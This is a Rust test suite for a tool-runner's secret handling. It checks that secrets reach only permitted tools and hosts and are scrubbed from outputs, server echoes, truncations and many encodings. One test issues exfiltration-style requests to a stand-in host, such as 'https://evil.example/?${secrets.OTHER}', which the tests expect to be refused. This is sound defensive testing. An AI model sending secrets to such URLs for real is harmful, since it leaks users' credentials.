//! Secrets go in by position, to whom they are for, and do not come out.

use crate::{
    fixture::{Fixture, Setup, resolved, with_slots},
    http_server::{Server, response},
    test_tools::TestTools,
};
use base64::{Engine as _, engine::general_purpose as base64_of};
use mandate_plan::ErrorCode;
use mandate_tools::{Fault, Outcome};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::sync::Arc;

/// Holds what every encoding changes.
const CANARY: &str = "cänary/+?\"s\\ecret 42";

fn fixture() -> Fixture {
    let setup = Setup {
        providers: vec![Arc::new(TestTools::default())],
        ..Setup::default()
    };
    setup
        .secret(
            "CANARY",
            CANARY,
            &["test.run", "process.exec", "data.value", "data.template"],
            &[],
        )
        .secret(
            "OTHER",
            "other-secret",
            &["http.request"],
            &["api.example.com"],
        )
        .secret("SHORT", "7 bytes", &["test.run"], &[])
        .build()
}

async fn refused(f: &Fixture, tool: &str, args: Value) -> Fault {
    let report = f.run(with_slots(resolved(tool, args))).await;
    match report.outcome {
        Outcome::Refused(fault) => fault,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn the_tool_gets_the_value_and_the_caller_does_not() {
    let f = fixture();
    let args = json!({"argv": ["sh", "-c", "printf %s \"$S\" > got; printf %s \"$S\"; printf %s \"$S\" >&2"], "env": {"S": "${secrets.CANARY}"}});
    let report = f.run(with_slots(resolved("process.exec", args))).await;
    assert_eq!(f.text("got"), CANARY);
    let Outcome::Completed { output } = report.outcome else {
        panic!("{report:?}")
    };
    assert_eq!(
        (&output["stdout"], &output["stderr"]),
        (&json!("[secret CANARY]"), &json!("[secret CANARY]"))
    );
}

#[tokio::test]
async fn only_the_plans_own_placeholders_are_replaced() {
    let f = fixture();
    // No slot: this text came from data.
    let outcome = f
        .call(
            "test.run",
            json!({"do": "answer", "with": "${secrets.CANARY}"}),
        )
        .await;
    assert_eq!(
        outcome,
        Outcome::Completed {
            output: json!({"ok": "${secrets.CANARY}"})
        }
    );
}

#[tokio::test]
async fn who_is_not_named_gets_nothing() {
    let f = fixture();
    let fault = refused(
        &f,
        "test.run",
        json!({"do": "answer", "with": "${secrets.OTHER}"}),
    )
    .await;
    assert_eq!(fault.code, ErrorCode::PolicyDenied);
    let fault = refused(
        &f,
        "http.request",
        json!({"url": "https://evil.example/?${secrets.OTHER}"}),
    )
    .await;
    assert_eq!(fault.code, ErrorCode::PolicyDenied);
    assert!(fault.message.contains("evil.example"), "{fault}");
    let fault = refused(
        &f,
        "http.request",
        json!({"url": "https://${secrets.OTHER}.example/"}),
    )
    .await;
    assert_eq!(fault.code, ErrorCode::PolicyDenied);
    let fault = refused(
        &f,
        "test.run",
        json!({"do": "answer", "with": "${secrets.NONE}"}),
    )
    .await;
    assert_eq!(fault.code, ErrorCode::ContextMissing);
    assert!(fault.message.contains("[secrets.NONE]"), "{fault}");
    let fault = refused(
        &f,
        "test.run",
        json!({"do": "answer", "with": "${secrets.SHORT}"}),
    )
    .await;
    assert_eq!(fault.code, ErrorCode::ContextMissing);
}

#[tokio::test]
async fn every_kind_of_outcome_is_scrubbed() {
    let f = fixture();
    for what in ["answer", "fail", "lose", "spoil", "babble", "panic"] {
        let call = with_slots(resolved(
            "test.run",
            json!({"do": what, "with": "a ${secrets.CANARY} b"}),
        ));
        let report = f.run(call).await;
        let text = serde_json::to_string(&report).unwrap();
        let escaped = serde_json::to_string(CANARY).unwrap();
        assert!(!text.contains(escaped.trim_matches('"')), "{text}");
        assert!(
            what == "panic" || text.contains("a [secret CANARY] b"),
            "{what}: {text}"
        );
    }
}

#[tokio::test]
async fn servers_that_echo_are_scrubbed() {
    let server = Server::start(|request| {
        let authorization = request.headers["authorization"].clone();
        match request.path.as_str() {
            "/fail" => response("403 Forbidden", &[], format!("bad token {authorization}")),
            _ => response(
                "200 OK",
                &[
                    ("x-echo", &authorization),
                    ("content-type", "application/json"),
                ],
                json!({ authorization.as_str(): 1 }).to_string(),
            ),
        }
    })
    .await;
    let f = Setup::default()
        .local_http()
        .secret("TOKEN", "canary-5f1e77", &["http.request"], &["127.0.0.1"])
        .build();
    for path in ["/", "/fail"] {
        let args = json!({"url": server.url(path), "headers": {"Authorization": "Bearer ${secrets.TOKEN}"}});
        let report = f.run(with_slots(resolved("http.request", args))).await;
        let text = serde_json::to_string(&report).unwrap();
        assert!(
            !text.contains("5f1e77") && text.contains("Bearer [secret TOKEN]"),
            "{text}"
        );
    }
    assert_eq!(
        server.seen()[0].headers["authorization"],
        "Bearer canary-5f1e77"
    );
}

#[tokio::test]
async fn no_half_of_a_secret_is_left_at_a_cut() {
    let f = fixture();
    for kept in 1..40_u64 {
        let args = json!({
            "argv": ["sh", "-c", "printf 'x%s%s' \"$S\" \"$S\""],
            "env": {"S": "${secrets.CANARY}"},
            "max_output_bytes": kept,
        });
        let report = f.run(with_slots(resolved("process.exec", args))).await;
        let Outcome::Completed { output } = report.outcome else {
            panic!("{report:?}")
        };
        let stdout = output["stdout"].as_str().unwrap();
        let bytes = if output["stdout_encoding"] == "base64" {
            base64_of::STANDARD.decode(stdout).unwrap()
        } else {
            stdout.into()
        };
        let start = &CANARY.as_bytes()[..4];
        assert!(
            !bytes.windows(4).any(|window| window == start),
            "{kept}: {stdout}"
        );
    }
}

/// What common encoders make of the secret between other bytes.
fn encodings(secret: &str, before: &str, after: &str) -> Vec<(&'static str, String)> {
    let joined = format!("{before}{secret}{after}");
    let json_once = serde_json::to_string(&joined).unwrap();
    let json_twice = serde_json::to_string(&json_once).unwrap();
    let ascii_json: String = joined
        .encode_utf16()
        .map(|unit| {
            if unit < 128 {
                char::from_u32(unit.into()).unwrap().to_string()
            } else {
                format!("\\u{unit:04X}")
            }
        })
        .collect();
    let percent_all: String = joined.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let percent_lower: String = joined.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let form: String = url::form_urlencoded::byte_serialize(joined.as_bytes()).collect();
    let component =
        percent_encoding::utf8_percent_encode(&joined, percent_encoding::NON_ALPHANUMERIC)
            .to_string();
    let controls =
        percent_encoding::utf8_percent_encode(&joined, percent_encoding::CONTROLS).to_string();
    let hex: String = joined.bytes().map(|byte| format!("{byte:02x}")).collect();
    vec![
        ("raw", joined.clone()),
        ("json", json_once),
        ("json in json", json_twice),
        ("ascii json", ascii_json),
        ("percent", percent_all),
        ("percent, lower case", percent_lower),
        ("form", form),
        ("component", component),
        ("percent, only controls", controls),
        ("hex", hex.clone()),
        ("HEX", hex.to_uppercase()),
        ("base64", base64_of::STANDARD.encode(&joined)),
        (
            "base64 without padding",
            base64_of::STANDARD_NO_PAD.encode(&joined),
        ),
        ("base64 for URLs", base64_of::URL_SAFE.encode(&joined)),
        (
            "base64 in a URL",
            base64_of::STANDARD
                .encode(&joined)
                .replace('+', "%2B")
                .replace('/', "%2F")
                .replace('=', "%3D"),
        ),
        (
            "base64 in JSON with escaped slashes",
            base64_of::STANDARD.encode(&joined).replace('/', "\\/"),
        ),
    ]
}

/// Every way to decode that an attacker, or a reader of the log, would try.
fn recoverable(text: &str, secret: &str) -> bool {
    let percent = percent_encoding::percent_decode_str(text)
        .decode_utf8_lossy()
        .into_owned();
    let mut readings = vec![text.to_owned(), percent.clone(), percent.replace('+', " ")];
    readings.push(text.replace("\\\\", "\\").replace("\\\"", "\""));
    if text.len().is_multiple_of(2) && text.is_ascii() {
        let bytes: Option<Vec<u8>> = (0..text.len())
            .step_by(2)
            .map(|at| u8::from_str_radix(&text[at..at + 2], 16).ok())
            .collect();
        readings.extend(bytes.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()));
    }
    readings.iter().any(|reading| reading.contains(secret))
}

#[tokio::test]
async fn the_canary_is_scrubbed_in_every_encoding_at_every_offset() {
    let f = fixture();
    for before in ["", "x", "xy", "xyz", "user:"] {
        for after in ["", "1", "12", "123"] {
            for (name, encoded) in encodings(CANARY, before, after) {
                let mut call = resolved(
                    "test.run",
                    json!({"do": "answer", "with": [encoded, "${secrets.CANARY}"]}),
                );
                call = with_slots(call);
                call.secrets.retain(|slot| slot.pointer == "/with/1");
                let Outcome::Completed { output } = f.run(call).await.outcome else {
                    panic!("{name}")
                };
                let text = output["ok"][0].as_str().unwrap();
                assert!(
                    text.contains("[secret CANARY]"),
                    "{name} after `{before}` before `{after}`: {text}"
                );
                assert!(!recoverable(text, CANARY), "{name}: {text}");
            }
        }
    }
}

#[tokio::test]
async fn keys_and_numbers_are_scrubbed() {
    let f = Setup {
        providers: vec![Arc::new(TestTools::default())],
        ..Setup::default()
    }
    .secret("PIN", "12345678", &["test.run"], &[])
    .build();
    let with =
        json!({"12345678": 1, "n": 9_123_456_780_u64, "s": "${secrets.PIN}", "same": 12_345_679});
    let report = f
        .run(with_slots(resolved(
            "test.run",
            json!({"do": "answer", "with": with}),
        )))
        .await;
    let Outcome::Completed { output } = report.outcome else {
        panic!("{report:?}")
    };
    assert_eq!(
        output["ok"],
        json!({"[secret PIN]": 1, "n": "9[secret PIN]0", "s": "[secret PIN]", "same": 12_345_679})
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
    /// Whatever the secret and whatever stands around it, no encoding of it comes through.
    #[test]
    fn any_secret_is_scrubbed(secret in "\\PC{8,40}", before in "\\PC{0,7}", after in "\\PC{0,7}") {
        prop_assume!(!secret.starts_with("${") && secret.trim_end_matches(['\r', '\n']) == secret);
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let f = Setup { providers: vec![Arc::new(TestTools::default())], ..Setup::default() }
            .secret("S", &secret, &["test.run"], &[])
            .build();
        let encoded: Vec<String> = encodings(&secret, &before, &after).into_iter().map(|(_, text)| text).collect();
        let mut call = with_slots(resolved("test.run", json!({"do": "answer", "with": {"a": "${secrets.S}", "b": encoded}})));
        call.secrets.retain(|slot| slot.pointer == "/with/a");
        let report = runtime.block_on(f.run(call));
        let Outcome::Completed { output } = report.outcome else { panic!("{report:?}") };
        for text in output["ok"]["b"].as_array().unwrap() {
            prop_assert!(text.as_str().unwrap().contains("[secret S]"), "{text}");
        }
    }
}

#[tokio::test]
async fn values_come_from_the_environment_files_and_commands() {
    use mandate_tools::{
        ConfiguredSecrets, Destination, SecretConfig, SecretError, SecretSource as _, SecretUse,
    };
    let path = std::env::var("PATH").unwrap();
    let to = |config: SecretConfig| SecretConfig {
        tools: vec!["test.run".into()],
        ..config
    };
    let command = |line: &str| {
        to(SecretConfig {
            command: Some(["sh", "-c", line].map(str::to_owned).to_vec()),
            ..SecretConfig::default()
        })
    };
    let secrets = ConfiguredSecrets::new(
        [
            (
                "ENV",
                to(SecretConfig {
                    env: Some("PATH".into()),
                    ..SecretConfig::default()
                }),
            ),
            (
                "UNSET",
                to(SecretConfig {
                    env: Some("NO_SUCH_VARIABLE_HERE".into()),
                    ..SecretConfig::default()
                }),
            ),
            ("COMMAND", command("printf 'printed-secret\\n'")),
            ("FAILS", command("echo printed-secret; exit 1")),
            ("NOTHING", to(SecretConfig::default())),
            (
                "TWO",
                to(SecretConfig {
                    env: Some("PATH".into()),
                    file: Some("/x".into()),
                    ..SecretConfig::default()
                }),
            ),
            (
                "NO_FILE",
                to(SecretConfig {
                    file: Some("/no/such/file".into()),
                    ..SecretConfig::default()
                }),
            ),
        ]
        .map(|(name, config)| (name.to_owned(), config))
        .into(),
    );
    let wanted = SecretUse {
        tool: "test.run",
        destination: &Destination::Local,
    };
    assert!(path.len() >= 8);
    for name in ["ENV", "COMMAND"] {
        assert!(secrets.resolve(name, wanted).await.is_ok(), "{name}");
    }
    for name in ["UNSET", "FAILS", "NOTHING", "TWO", "NO_FILE", "ABSENT"] {
        let error = secrets.resolve(name, wanted).await.unwrap_err();
        assert!(
            matches!(error, SecretError::Missing { .. }),
            "{name}: {error}"
        );
        assert!(!error.to_string().contains("printed-secret"));
    }
    let other = SecretUse {
        tool: "other.run",
        destination: &Destination::Local,
    };
    assert!(matches!(
        secrets.resolve("ENV", other).await,
        Err(SecretError::NotPermitted { .. })
    ));
    assert!(!format!("{:?}", secrets.resolve("COMMAND", wanted).await).contains("printed"));
}
